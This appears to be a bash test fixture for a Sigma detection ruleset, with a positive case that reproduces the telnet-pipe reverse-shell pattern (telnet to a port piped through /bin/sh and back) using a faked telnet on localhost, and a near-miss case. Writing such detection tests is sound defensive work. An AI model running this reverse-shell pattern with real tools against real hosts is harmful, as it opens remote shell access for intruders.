# shellcheck shell=bash disable=SC2034 # DESC is read by test_sigma_ruleset.sh
DESC="sh -c 'telnet 127.0.0.1 PORT | /bin/sh | telnet 127.0.0.1 PORT' with a do-nothing telnet"
trigger() {
    local t
    t=$(fake "$1" telnet)
    held timeout 5 sh -c "$t 127.0.0.1 $LISTEN_PORT | /bin/sh | $t 127.0.0.1 $LISTEN_PORT"
}
near_miss() {
    local t
    t=$(fake "$1" telnet)
    held timeout 5 sh -c "$t 127.0.0.1 $LISTEN_PORT </dev/null | grep -c Connected"
}
